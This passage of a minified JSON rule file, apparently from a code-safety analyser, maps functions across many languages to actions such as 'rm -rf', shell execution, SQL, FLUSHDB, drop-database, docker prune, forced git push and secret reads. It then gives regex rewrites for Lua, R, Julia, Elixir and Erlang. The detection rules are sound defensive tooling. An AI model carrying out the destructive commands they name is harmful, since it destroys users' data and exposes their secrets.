+path.Join":"join $all","path.Join":"join $all","path.join":"join $all","Paths.get":"join $all","Path.of":"join $all","Path.Combine":"join $all","Path.join":"joi\
+n $all","File":"join $all","joinpath":"join $all","filename.join":"join $all","file.path":"join $all","path":"join $all","fs.path":"join $all","PathBuf.from":"j\
+oin $all","Path.new":"join $all","Path":"join $all","os.Path":"join $all","join_path":"join $all","path_join":"join $all","Path.Join":"join $all","home_dir":"va\
+lue ~","dirs.home_dir":"value ~","home.home_dir":"value ~","os.UserHomeDir":"value ~","UserHomeDir":"value ~","homedir":"value ~","path_home":"value ~","System.\
+user_home":"value ~","user_home":"value ~","NSHomeDirectory":"value ~","FileManager.default.homeDirectoryForCurrentUser":"value ~","getHomeDir":"value ~","os.Ge\
+twd":"value .","pwd":"value .","getwd":"value .","File.cwd":"value .","os.pwd":"value .","getCurrentDir":"value .","env.current_dir":"value .","Dir.pwd":"value \
+.","lfs.currentdir":"value .","os.Getenv":"environment $0","System.getenv":"environment $0","System.getProperty":"environment $0","os.getenv":"environment $0","\
+getenv":"environment $0","Sys.getenv":"environment $0","env.var":"environment $0","System.get_env":"environment $0","make_temp_file":"value /tmp/\\ufffc","os.Mkd\
+irTemp":"value /tmp/\\ufffc","ioutil.TempDir":"value /tmp/\\ufffc","os.CreateTemp":"value /tmp/\\ufffc","tempfile.tempdir":"value /tmp/\\ufffc","tempdir":"value /tm\
+p/\\ufffc","tempfile":"value /tmp/\\ufffc","mktempdir":"value /tmp/\\ufffc","mktemp":"value /tmp/\\ufffc","tempname":"value /tmp/\\ufffc","os.tmpname":"value /tmp/\\u\
+fffc","os.TempDir":"value /tmp/\\ufffc","env.temp_dir":"value /tmp/\\ufffc","TempDir.new":"value /tmp/\\ufffc","tempfile.Builder.new":"value /tmp/\\ufffc","Files.cr\
+eateTempDirectory":"value /tmp/\\ufffc","Files.createTempFile":"value /tmp/\\ufffc","createTempDir":"value /tmp/\\ufffc","createTempDirectory":"value /tmp/\\ufffc",\
+"createTempFile":"value /tmp/\\ufffc","File.createTempFile":"value /tmp/\\ufffc","File.createTempDir":"value /tmp/\\ufffc","os.temp.dir":"value /tmp/\\ufffc","os.te\
+mp":"value /tmp/\\ufffc","Directory.systemTemp.createTemp":"value /tmp/\\ufffc","Directory.systemTemp.createTempSync":"value /tmp/\\ufffc","FileManager.default.tem\
+poraryDirectory":"value /tmp/\\ufffc","NSTemporaryDirectory":"value /tmp/\\ufffc","Path.GetTempPath":"value /tmp/\\ufffc","Path.GetTempFileName":"value /tmp/\\ufffc\
+","System.tmp_dir":"value /tmp/\\ufffc","mkdtemp":"value /tmp/\\ufffc","tmpnam":"value /tmp/\\ufffc","Briefly.create":"value /tmp/\\ufffc","getTempDir":"value /tmp/\
+\\ufffc","rm":"if-option:recursive=true run rm -rf $0 | run rm $0","file.remove":"run rm $0","os.Remove":"run rm $0","fs.remove_file":"run rm $0","Files.delete":\
+"run rm $0","Files.deleteIfExists":"run rm $0","unlink":"run rm $0","remove":"run rm $0","os.remove":"run rm $0","os.remove.file":"run rm $0","File.rm":"run rm \
+$0","File.Delete":"run rm $0","file.delete":"run rm $0","File.delete":"run rm $0","vim.uv.fs_unlink":"run rm $0","vim.loop.fs_unlink":"run rm $0","file_delete":\
+"run rm $0","removeFile":"run rm $0","remove_file":"run rm $0","deleteFile":"run rm $0","delete-file":"run rm $0","delete_file":"run rm $0","vim.fn.delete":"run\
+ rm -rf $0","vim.fs.rm":"run rm -rf $0","os.RemoveAll":"run rm -rf $0","fs.remove_dir_all":"run rm -rf $0","Files.remove_all":"run rm -rf $0","remove_all":"run \
+rm -rf $0","FileUtils.deleteDirectory":"run rm -rf $0","FileUtils.deleteQuietly":"run rm -rf $0","FileUtils.forceDelete":"run rm -rf $0","FileUtils.cleanDirecto\
+ry":"run rm -rf $0","File.rm_rf":"run rm -rf $0","file.del_dir_r":"run rm -rf $0","Directory.Delete":"run rm -rf $0","dir_delete":"run rm -rf $0","os.remove.all\
+":"run rm -rf $0","removeDir":"run rm -rf $0","removeDirectoryRecursive":"run rm -rf $0","removePathForcibly":"run rm -rf $0","rm_rf":"run rm -rf $0","delete-di\
+rectory":"run rm -rf $0","delete_directory":"run rm -rf $0","remove_dir_all":"run rm -rf $0","delete_directory_tree":"run rm -rf $0","delete_directory_files":"r\
+un rm -rf $0","fs.rm_rf":"run rm -rf $0","FileUtils.deleteTree":"run rm -rf $0","deltree":"run rm -rf $0","gen_tcp.recv":"received","require":"module $0","SqlCo\
+mmand":"sql $0","NpgsqlCommand":"sql $0","MySqlCommand":"sql $0","SqliteCommand":"sql $0","OracleCommand":"sql $0","OleDbCommand":"sql $0","OdbcCommand":"sql $0\
+","setuid":"run setuid $0","seteuid":"run setuid $0","syscall.Setuid":"run setuid $0","unix.Setuid":"run setuid $0","setreuid":"run setuid $last","setresuid":"r\
+un setuid $last","lfs.rmdir":"run rmdir $0","rmdir":"run rmdir $0","fs.remove_dir":"run rmdir $0","File.rmdir":"run rmdir $0","file.del_dir":"run rmdir $0","os.\
+remove.dir":"run rmdir $0","system":"shell $0","popen":"shell $0","os.execute":"shell $0","io.popen":"shell $0","shell":"shell $0","os.cmd":"shell $0","System.s\
+hell":"shell $0","Runtime.exec":"shell $0","execShellCmd":"shell $0","execCmd":"shell $0","execCmdEx":"shell $0","staticExec":"shell $0","spawnCommand":"shell $\
+0","shell_command":"shell $0","shell_command_to_string":"shell $0","async_shell_command":"shell $0","uiop.run_program":"shell $0","run_program":"shell $0","run_\
+shell_command":"shell $0","run":"shell $0","callCommand":"shell $0","success":"shell $0","readchomp":"shell $0","call_process":"program $all","start_process":"p\
+rogram $all","exec.Command":"program $all","exec.CommandContext":"program $all","ProcessBuilder":"program $all","os.proc":"program $all","spawn":"spawn $0 $1","\
+system2":"spawn $0 $1","System.cmd":"spawn $0 $1","Process.run":"spawn $0 $1","Process.runSync":"spawn $0 $1","Process.start":"spawn $0 $1","Process.Start":"spa\
+wn $0 $1","execl":"execute $0 $1..","execlp":"execute $0 $1..","execv":"execute $0 $1..","execvp":"execute $0 $1..","execve":"execute $0 $1..","kill":"kill $0 $\
+1","syscall.Kill":"kill $0 $1","writeFile":"write $0 $1","os.WriteFile":"write $0 $1","ioutil.WriteFile":"write $0 $1","fs.write":"write $0 $1","Files.writeStri\
+ng":"write $0 $1","Files.write":"write $0 $1","File.write":"write $0 $1","spit":"write $0 $1","File.WriteAllText":"write $0 $1","File.WriteAllLines":"write $0 $\
+1","File.WriteAllBytes":"write $0 $1","write_file":"write $0 $1","os.write.over":"write $0 $1","File.AppendAllText":"write $0 $1 append","File.AppendAllLines":"\
+write $0 $1 append","writeLines":"write $1 $0","fopen":"open $0 $1","io.open":"open $0 $1","File.open":"open $0 $1","open":"open $0 $1 flags","os.OpenFile":"ope\
+n $0 $1 flags","cat":"if-option:file write $:file $0","os.Create":"open $0 w","File.create":"open $0 w","FileWriter":"open $0 w","PrintWriter":"open $0 w","File\
+OutputStream":"open $0 w","os.Truncate":"run truncate -s 0 $0","truncate":"run truncate -s 0 $0","os.ReadFile":"read $0","ioutil.ReadFile":"read $0","os.Open":"\
+read $0","fs.read":"read $0","fs.read_to_string":"read $0","Files.readString":"read $0","Files.readAllBytes":"read $0","Files.readAllLines":"read $0","File.read\
+":"read $0","File.ReadAllText":"read $0","upload_file":"read $0","readLines":"read $0","read_file":"read $0","FileInputStream":"read $0","FileReader":"read $0",\
+"File.ReadAllLines":"read $0","File.ReadAllBytes":"read $0","File.ReadLines":"read $0","File.OpenText":"read $0","File.OpenRead":"read $0","StreamReader":"read \
+$0","godotenv.Read":"read $0","toml.DecodeFile":"read $0","ini.Load":"read $0","readRDS":"read $0","read_yaml":"read $0","read_json":"read $0","fromJSON":"read \
+$0","read.csv":"read $0","read.table":"read $0","readr::read_file":"read $0","TOML.parsefile":"read $0","YAML.load_file":"read $0","JSON.parsefile":"read $0","r\
+eaddlm":"read $0","String.contentsOfFile":"read $0","Data.contentsOf":"read $0","slurp":"read $0","HttpRequest.BodyPublishers.ofFile":"read $0","BodyPublishers.\
+ofFile":"read $0","File.read_to_string":"read $0","os.ReadDir":"names $0","ioutil.ReadDir":"names $0","lfs.dir":"names $0","File.ls":"names $0","readdir":"names\
+ $0","listdir":"names $0","Directory.GetFiles":"folder $0","Directory.GetDirectories":"folder $0","Directory.EnumerateFiles":"folder $0","Directory.EnumerateDir\
+ectories":"folder $0","directory_files":"folder $0","list.files":"folder $0","list.dirs":"folder $0","dir_ls":"folder $0","fs.read_dir":"folder $0","os.list":"f\
+older $0","Files.list":"folder $0","directory_iterator":"folder $0","directory_files_recursively":"folder $0 below","WalkDir.new":"folder $0 below","os.walk":"f\
+older $0 below","Files.walk":"folder $0 below","recursive_directory_iterator":"folder $0 below","walkdir.WalkDir.new":"folder $0 below","filepath.Walk":"calls-b\
+ack folder $0 below","filepath.WalkDir":"calls-back folder $0 below","nftw":"calls-back folder $0 below","ftw":"calls-back folder $0 below","walkdir":"walk $0",\
+"filelib.wildcard":"glob $0","filepath.Glob":"glob $0","glob":"glob $0","Sys.glob":"glob $0","glob.glob":"glob $0","Path.wildcard":"glob $0","any_of":"any-of $0\
+","filepath.Dir":"dirname $0","dirname":"dirname $0","Path.dirname":"dirname $0","fmt.Sprintf":"format $0 $1..","format":"format $0 $1..","String.format":"forma\
+t $0 $1..","string.format":"format $0 $1..","sprintf":"format $0 $1..","strings.Fields":"split $0","words":"split $0","String.split":"split $0","OptionParser.sp\
+lit":"split $0","shellwords.split":"split $0","shlex.split":"split $0","lapply":"map $1 $0","sapply":"map $1 $0","vapply":"map $1 $0","walk":"map $1 $0","Enum.e\
+ach":"map $1 $0","Enum.map":"map $1 $0","Task.async_stream":"map $1 $0","lists.foreach_":"map $1 $0","for_each":"map $0 $1","mapc":"map $0 $1","mapcar":"map $0 \
+$1","foreach":"map $0 $1","map":"map $0 $1","lists.foreach":"map $0 $1","lists.map":"map $0 $1","pcall":"invoke $0","dbExecute":"sql $0 | sql $1","dbSendQuery":\
+"sql $0 | sql $1","dbGetQuery":"sql $0 | sql $1","dbSendStatement":"sql $0 | sql $1","execute":"sql $0 | sql $1","DBInterface.execute":"sql $0 | sql $1","SQLite\
+.execute":"sql $0 | sql $1","SQL.query":"sql $0 | sql $1","query":"sql $0 | sql $1","LibPQ.execute":"sql $0 | sql $1","spark.sql":"sql $0 | sql $1","sqlContext.\
+sql":"sql $0 | sql $1","sqlx.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_query":"sql $0 | sql $1","PQexec":"sql $0 | sql $1","sqlite3_e\
+xec":"sql $0 | sql $1","sql_query":"sql $0 | sql $1","drive_rm":"run cloud-sdk delete","googledrive.drive_rm":"run cloud-sdk delete","bq_table_delete":"run clou\
+d-sdk delete","bq_dataset_delete":"run cloud-sdk delete","delete_bucket":"run cloud-sdk delete","aws.s3.delete_bucket":"run cloud-sdk delete","dbRemoveTable":"r\
+un sql drop-table rows","mnesia.delete_table":"run sql drop-table rows","mnesia.clear_table":"run sql drop-table rows","mnesia.delete_schema":"run sql drop-sche\
+ma db","code.load_binary":"eval $2","socket.http.request":"request GET $0","ssl.https.request":"request GET $0","http.Get":"request GET $0","reqwest.get":"reque\
+st GET $0","GET":"request GET $0","httpc.request":"request GET $0","httpc_get":"request GET $0","http.get":"request GET $0","POST":"request POST $0 $1 $:body","\
+PUT":"request POST $0 $1 $:body","http.request":"request POST $0 $1 $:body","httr.POST":"request POST $0 $1 $:body","HTTP.post":"request POST $0 $1 $:body","HTT\
+Poison.post":"request POST $0 $1 $:body","Req.post":"request POST $0 $1 $:body","httpc_post":"request POST $0 $1 $:body","http.Post":"request POST $0 $2","http.\
+PostForm":"request POST $0 $2","HttpRequest.newBuilder":"made request $0","Request.post":"made request $0","jenkinsItems":"made jenkins","ArmClient":"made servi\
+ce","CosmosClient":"made service","BlobServiceClient":"made service","TableServiceClient":"made service","QueueServiceClient":"made service","ShareServiceClient\
+":"made service","SecretClient":"made service","KeyClient":"made service","AmazonS3Client":"made service","AmazonDynamoDBClient":"made service","AmazonEC2Client\
+":"made service","FileSystem.get":"made service","FileSystem.newInstance":"made service","clientv3.New":"made service","storage.NewClient":"made service","ldap.\
+DialURL":"made service"},"methods":{"apply":"value $self","also":"value $self","use":"value $self","let":"value $self","run":"value $self","onEnter":"value $sel\
+f","sorted":"value $self","sort":"value $self","toList":"value $self","toMutableList":"value $self","stream":"value $self","iter":"value $self","into_iter":"val\
+ue $self","iter_mut":"value $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value $self","expect":"value $self","ok":"value $self","c\
+lone":"value $self","cloned":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"value $self","to_string":"value $self","toString":"valu\
+e $self","path":"value $self","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path":"value $self","filter_map":"value $self","filter_e\
+ntry":"value $self","take":"value $self","skip":"value $self","lines":"value $self","get":"value $self","await":"value $self","toAbsolutePath":"value $self","no\
+rmalize":"value $self","iterator":"value $self","asSequence":"value $self","parallelStream":"value $self","toArray":"value $self","max_depth":"value $self","min\
+_depth":"value $self","standardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_str":"value $self","to_owned":"value $self","into":"v\
+alue $self","del":"if-gets:keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-made:jenkins run cloud-sdk delete | if-text if-option:r\
+ecursive=true run rm -rf $self | if-text run rm -r $self","unlink":"if-gets:keys run sql flush FLUSHDB | if-text run rm -r $self","scan_iter":"if-stored entries\
+ keys","keys":"if-stored entries keys","scan":"if-stored entries keys","storage_down":"run sql drop-database db","drop_database":"run sql drop-database db","dro\
+pDatabase":"run sql drop-database db","execute":"if-text shell $self | if-list shell $self | sql $0 | sql $1","status":"if-list shell $self","output":"if-list s\
+hell $self","spawn":"if-list shell $self","start":"if-list shell $self","Run":"if-list shell $self","Output":"if-list shell $self","CombinedOutput":"if-list she\
+ll $self","Start":"if-list shell $self","exec":"if-list shell $self | sql $0 | sql $1","call":"if-list shell $self","arg":"concatenate $self $all","args":"conca\
+tenate $self $all","removeItem":"run rm -rf $0:at:atPath","trashItem":"run rm -rf $0:at:atPath","rm_rf":"run rm -rf $self","deleteRecursively":"run rm -rf $self\
+","deleteDir":"run rm -rf $self","delete_recursively":"run rm -rf $self","deleteOnExitRecursively":"run rm -rf $self","doDelete":"if-made:jenkins run cloud-sdk \
+delete","getPlainText":"run Get-Secret","receive":"if-sign:network received","recv":"if-sign:network received","ReadString":"if-sign:network received","ReadByte\
+s":"if-sign:network received","ReadLine":"if-sign:network received","readLine":"if-sign:network received","ReadLineAsync":"if-sign:network received","FormValue"\
+:"if-sign:network received","PostFormValue":"if-sign:network received","read_line":"if-sign:network received","Push":"if-option:Force=true run git push --force"\
+,"PushContext":"if-option:Force=true run git push --force","ContainerRemove":"run docker rm -f $1","VolumeRemove":"run docker volume rm $1","VolumesPrune":"run \
+docker volume prune -af","SystemPrune":"run docker system prune -af","deleteSync":"if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self",\
+"rm":"if-text run rm -r $self","Delete":"if-text run rm -r $self","deleteIfExists":"if-text run rm -r $self","resolve":"join $self $0","appendingPathComponent":\
+"join $self $0","appending":"join $self $0","child":"join $self $0","div":"join $self $0","join":"join $self $0","listFiles":"folder $self","list":"folder $self\
+","listSync":"folder $self","children":"folder $self","read_dir":"folder $self","GetFiles":"folder $self","GetDirectories":"folder $self","EnumerateFiles":"fold\
+er $self","EnumerateDirectories":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","walkBottomUp":"folder $self below","contentsOfDi\
+rectory":"folder $0:at:atPath","enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"write $self $0","writeAsString":"write $self $0","\
+writeAsStringSync":"write $self $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write $self $0 append","printWriter":"open $self w","\
+bufferedWriter":"open $self w","writer":"open $self w","outputStream":"open $self w","readText":"read $self","readAsString":"read $self","readAsStringSync":"rea\
+d $self","readBytes":"read $self","readLines":"read $self","inputStream":"read $self","getText":"read $self","write":"send $self $0","body":"send $self $0","put\
+s":"send $self $0","POST":"send $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $0","uri":"made request $0","url":"made request $\
+0","Exec":"sql $0 | sql $1","ExecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | sql $1","QueryRow":"sql $0 | sql $1","MustExec":"\
+sql $0 | sql $1","executeUpdate":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0 | sql $1","addBatch":"sql $0 | sql $1","prepare\
+Statement":"sql $0 | sql $1","prepare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","ExecuteNonQuery":"sql $0 | sql $1","executeSql":\
+"sql $0 | sql $1","rawQuery":"sql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","simple_query":"sql $0 | sql $1"}}},"dialects":{"lua\
+":{"comment":"--\\\\[\\\\[[\\\\s\\\\S]*?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S]*?)\\\\]\\\\]","rew\
+rites":[["lfs\\\\.(?:symlink)?attributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\\\\.\\\\.(?!\\\\.)","+"],["\\\\blocal\\\\s+(?=function\\\\b\
+)",""],["\\\\blocal\\\\s+(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!="],["\\\\b(os\\\\.(?:execute|remove|getenv)|io\\\\.(?\
+:popen|open)|require)\\\\s*(\\"\\\\d+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\bin\\\\s+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{([^{};=]*)\\\\}","\
+$1[$2]"],["(=\\\\s*|\\\\(\\\\s*|\\\\breturn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\s*)?(\\\\w+)\\\\s+in\\\\s+","for $1 of "],["\\\\bfunctio\
+n\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\w+)?\\\\s*(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:then|do|repeat)\\\\b","{"],["\\\\belseif\\\\b","} else\
+ if"],["\\\\belse\\\\b","} else {"],["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\
+'","rewrites":[["\\\\b(?:library|require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forget("],["\\\\b(?:base|fs|httr2?|DBI|utils|tools|purr\
+r|paws|yaml|jsonlite|readr)::",""],["(?<=[\\\\w)\\\\]])\\\\$(?=[A-Za-z_.])","."],["\\\\bunlink\\\\b","rm_rf"],["\\\\bfile\\\\.exists\\\\b|\\\\bdir\\\\.exists\\\\b","isDirectory"],["<\
+<?-","="],["(?:\\\\|>|%>%)\\\\s*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","list("],["([(,]\\\\s*)([\\\\w.]+)\\\\s*=(?!=)","$1$2: "],["(?<![\\\\w.])([\\\\w.]{1,\
+60}) {0,4}= {0,4}function\\\\s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\))\\\\s*(?!\\\\{)","$1 => "],["\\\\bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\\\\s","for ($1 of\
+ "],["\\\\bfile\\\\.path\\\\b","join_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\\\\([^()]*\\\\))\\\\)","$2.map((it) => join_path($1, it))"],["\\\\bpaste0\\\\(([^\
+(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + \\" \\" + $2)"]]},"julia":{"comment":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]*","texts":"\\"\\"\
+\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b(?:raw|sql))?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*)\`|(?<![\\\\w)\\\\]])'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\(?([\\\\w.]+(?:\\\\([^()]\
+*\\\\))?)\\\\)?","rewrites":[["^[ \\\\t]*(?:using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\()","$1"],["\\\\bforeach\\\\(","map("],["\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\\\\(\\\\))?),\\\\s*(\\\
+\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.map((it) => $1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Base\\\\.Filesystem|FilePathsBase)\\\\.(?=\\\\w)",""],["\\\\bmktempdir\\\\(\\\\s*\\\\)\\\\s+do\\\\s\
++(\\\\w+)","$1 = mktempdir();"],[";\\\\s*(?=(?:recursive|force|join|dir|onerror)\\\\s*=)",", "],["([(,]\\\\s*)(\\\\w+)\\\\s*=(?!=)","$1$2: "],["\\\\|>\\\\s*([\\\\w.]+)",".$1()"],\
+["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["(\\"\\\\d+\\")\\\\s*\\\\*\\\\s*(?=[\\\\w\\\
+"])","$1 + "],["([\\\\w)])\\\\s\\\\*\\\\s(?=\\")","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)|\\\\b(\\\\w+))\\\\s*->\\\\s*","($1$2) => "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)(?:\\\\s*,\\\\s*\\\\w+\
+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*),\\\\s*(\\\\w+)\\\\s+(?:in|\\u2208)\\\\s+\\\\w+","for ($1 of $2) $3 = $1;"],["\
+\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^()]*,\\\\s*(\\\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*)","for ($1$2 of $3);\
+"],["^([ \\\\t]*)([\\\\w.]+)(\\\\([^()=]*\\\\))\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 { $4 }"],["\\\\bfunction\\\\s+(\\\\w+\\\\s*\\\\([^()]*\\\\))","function $1 {"],["^end\\\\b","\
+}"]]},"elixir":{"comment":"#[^\\\\n{][^\\\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|~[sS]?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\
+\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'|~[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\]}|/\\"]*)[)\\\\]}|/\\"]a?","inserts":"#\\\\{([^{}]*)\\\\}","rewrites":[["\\\\{:ok, ?(\\\\w\
++)\\\\} ?=(?!=)","$1 ="],["~w(\\"\\\\d+\\")","words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bwhere\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,999}\\\\bwhere\\\\b))","delete_some"],["^[ \\\\t]\
+*(?:alias|import|use|require)\\\\b[^\\\\n;]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>","+"],["&([\\\\w.:]+)/1","(it) => $1(it)"],["&([\\\\w.:]+)/\\\\d","$1"],["&\\\\(([^()&\
+]*(?:\\\\([^()]*\\\\))?)&1([^()]*)\\\\)","(it) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1([^()]*\\\\))","(it) => $1it$2"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->\\\\s*([^\\\\n]{0,\
+300}?)\\\\bend\\\\b","($1) => { $2 }"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^()]*\\\\))?),\\\\s*","$1.forEach("],["\\\\|>\\\\s*:\
+?(?:Enum|Stream)\\\\.each\\\\b",".forEach"],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".$1()"],["(?<!\\\\w):(?=[a-z]\\\\w*\\\\.\\\\w)",""],\
+["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s*(.*?)\\\\s*(?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1() { $2 }"],["\\\\bdefp?\\\\\
+s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function $1() {"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]\
+*\\\\))\\\\s*do\\\\b","function $1$2 {"],["^ {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\\s*=","$1 ="]]},"erlang":{"comment":"%[^\\\\n]*|^#![^\\\\n]*","texts":"\\"((?:[^\\"\\\\\
+\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\\\\([^,]*,\\\\s*(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*,\\\\s*\
+\\\\[","$1.$2(["],["\\\\bhttpc\\\\.request\\\\(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\|\\\\|\\\\s*(\\\\w+)\\\\s*<-\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|[\
+^\\\\[\\\\],]+)\\\\]","; for ($2 of $3); $1;"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\)[^()\\\\n]*){0,4}\\\\)){1,300}?)\\\\bend\\\\b",\
+"($1) => $2"],["\\\\+\\\\+","+"],["(?:\\\\{\\\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 ="]]},"named":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\
+\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[fsru]{1,2})?#*\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\\\\\([^(\
+)\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\\)|\\\\\\\\[\\\\s\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\\$\\\\{?|\\\\\\\\\\\\(|\\\\{(?=\\\\w+\\\\}))([A-Za-z_][\\\\\
+w.]*(?:\\\\([^()]*\\\\))?)[})]?","rewrites":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\\[])","$1.execute()"],["^[ \\\\t]*(?:import|u\
+se|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""],["^[ \\\\t]*#d\
